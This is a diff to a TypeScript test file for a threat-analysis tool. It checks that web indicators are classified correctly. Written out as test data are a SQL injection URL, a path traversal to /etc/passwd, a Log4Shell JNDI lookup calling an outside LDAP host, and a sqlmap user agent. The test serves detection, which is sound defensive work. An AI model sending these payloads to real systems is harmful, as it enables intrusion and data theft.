@@ -48,9 +48,43 @@ test('a log names its attackers, and they are indicators', async () => {
 });
 
 test('what is no log and no request is refused with its reason (4220)', async () => {
-  await expect(call('analyze_access_log', { log: { text: 'hello' } })).rejects.toMatchObject({ code: 4220 });
+  await expect(call('analyze_access_log', { log: { text: 'hello' } })).rejects.toMatchObject({
+    code: 4220,
+    message: expect.stringContaining('Known are common and combined logs') as string,
+  });
   await expect(call('analyze_access_log', { log: { text: '' } })).rejects.toMatchObject({ code: 4220 });
   await expect(call('analyze_http', { source: { text: 'hello' } })).rejects.toMatchObject({ code: 4220 });
+});
+
+test('indicators of the web are judged by the web judge, each cited where it stands', async () => {
+  const judge = (...iocs: { type: string; value: string }[]) => call('analyze_threat', { alert_id: 'alert-1', iocs });
+  const hash = { type: 'sha256', value: 'a'.repeat(64) };
+  for (const [type, value, rule] of [
+    ['url', "http://www.example.com/item?id=1'%20UNION%20SELECT%20a%20FROM%20b--", 'sqli'],
+    ['path', '/download/../../../etc/passwd', 'lfi'],
+    ['user_agent', '${jndi:ldap://192.0.2.7/a}', 'log4shell'],
+    ['user-agent', 'sqlmap/1.8', 'scanner'],
+  ] as const) {
+    const found = await judge(hash, { type, value });
+    expect(found, type).toMatchObject({
+      verdict: rule === 'scanner' ? 'suspicious' : 'malicious',
+      findings: expect.arrayContaining([
+        expect.objectContaining({
+          rule: expect.stringContaining(`${rule}/`) as string,
+          evidence: [expect.objectContaining({ locator: expect.stringContaining('/iocs/1/value') as string })],
+        }),
+      ]) as unknown[],
+      not_checked: expect.arrayContaining([
+        expect.objectContaining({ what: 'indicators of type sha256' }),
+      ]) as unknown[],
+    });
+  }
+  for (const [type, value] of [
+    ['path', '/index.html'],
+    ['user_agent', 'Mozilla/5.0'],
+    ['sha256', hash.value],
+  ] as const)
+    expect(await judge({ type, value }), type).toMatchObject({ verdict: 'inconclusive', confidence: 0 });
 });
 
 test('a request is given in exactly one way (-32602)', async () => {
